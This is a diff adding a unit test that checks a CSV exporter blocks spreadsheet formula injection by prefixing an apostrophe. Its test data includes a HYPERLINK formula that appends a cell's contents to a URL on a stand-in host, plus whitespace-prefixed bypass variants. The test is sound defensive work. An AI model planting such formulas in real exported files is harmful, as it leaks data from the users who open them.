@@ -15,6 +15,7 @@ import {
   rectificationCsv,
   rectificationRows,
   rectificationTableTitle,
+  csvText,
   type RectificationRow,
 } from "../../../src/core/insert/rectification";
 import { paragraphsFromText } from "../../../src/host/text";
@@ -169,6 +170,27 @@ describe("table and CSV", () => {
       '2,"a ""quoted"" cell","两行\n内容",李四,长期',
       "",
     ]);
+  });
+
+  test("CSV: a cell that would start a formula in Excel or WPS stays text (apostrophe first)", () => {
+    const hostile: RectificationRow[] = [
+      { number: 1, problem: '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")', measure: "+1+1", owner: "-2+3", deadline: "@SUM(1,2)" },
+      { number: 2, problem: "  =1+1", measure: "\t=1+1", owner: "\r=1", deadline: "　=1" },
+      { number: 3, problem: "学习不够=不深入", measure: "每月+1次", owner: "张三", deadline: "2024-06" },
+    ];
+    const lines = rectificationCsv(hostile).slice(1).split("\r\n");
+    expect(lines[1]).toBe(`1,"'=HYPERLINK(""http://example.invalid/?""&A1,""点击查看"")",'+1+1,'-2+3,"'@SUM(1,2)"`);
+    expect(lines[2]).toBe(`2,'  =1+1,'\t=1+1,"'\r=1",'　=1`);
+    // "=" or "+" inside the text is no formula: unchanged.
+    expect(lines[3]).toBe("3,学习不够=不深入,每月+1次,张三,2024-06");
+    // No cell of the file starts with a formula character once its quotes are removed.
+    for (const line of lines.slice(1, 3)) {
+      for (const cell of line.match(/("(?:[^"]|"")*"|[^,]*)(?=,|$)/g)!.filter(Boolean)) {
+        expect(cell.replace(/^"/, "")).not.toMatch(/^[=+\-@\t\r]/);
+      }
+    }
+    expect(csvText("正常文字")).toBe("正常文字");
+    expect(csvText("-")).toBe("'-");
   });
 
   test("title and tag: 整改清单, under the add-in's template tag", () => {
